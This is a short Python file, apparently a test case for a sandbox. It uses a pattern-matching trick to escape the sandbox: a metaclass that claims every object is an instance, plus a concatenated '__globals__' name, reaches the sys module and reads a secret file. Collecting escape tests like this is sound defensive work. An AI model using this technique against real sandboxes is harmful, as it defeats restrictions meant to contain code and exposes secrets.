# attack: a positional pattern reads the attributes that __match_args__ names, as text; a metaclass says that everything is an instance
# family: match
import enum
class Any(type):
    def __instancecheck__(cls, thing):
        return True
class Globals(metaclass=Any):
    __match_args__ = ("__glo" + "bals__",)
match enum.unique:
    case Globals({"sys": sys}):
        print("REACHED", sys)
        print(sys.modules["io"].open("$SECRET_FILE").read())
